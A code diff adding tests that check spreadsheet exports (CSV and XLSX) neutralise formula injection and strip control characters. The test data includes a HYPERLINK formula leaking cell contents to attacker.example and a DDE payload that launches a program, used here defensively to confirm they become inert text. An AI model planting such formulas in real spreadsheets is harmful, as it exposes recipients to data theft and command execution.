@@ -269,3 +269,39 @@ def test_import_and_export_pages_have_no_inline_code(reference, facilities):
         )
         assert_no_inline_code(response)
     assert "<del>20</del> <ins>35</ins>" in response.content.decode()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB=1+1",
+    "\rCR=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_texts_that_begin_like_formulas_are_exported_as_text(reference, text):
+    make_facility(name=text)
+    head = make_staff("kz-head-formulas", "KZ")
+    names = [row["name"] for row in csv_rows(export(head, "facilities.facility"))]
+    assert names == ["'" + text]
+    workbook = load_workbook(io.BytesIO(export(head, "facilities.facility", XLSX).content))
+    sheet = workbook.active
+    column = [c.value for c in next(sheet.iter_rows(max_row=1))].index("name") + 1
+    cell = sheet.cell(row=2, column=column)
+    # (XML keeps a carriage return as a line feed)
+    assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")
+
+
+def test_a_negative_number_stays_a_number_and_control_characters_do_not_break_xlsx(reference):
+    from npm_tracker.core.spreadsheets.resources import safe_cell
+
+    assert safe_cell("-12.5") == "-12.5" and safe_cell(-3) == -3
+    make_facility(name="ИВС\x01 № 2\x1f", address="ул. Абая\x0b 1")
+    head = make_staff("kz-head-control", "KZ")
+    response = export(head, "facilities.facility", XLSX)
+    rows = xlsx_rows(response)
+    assert rows[0]["name"] == "ИВС № 2"
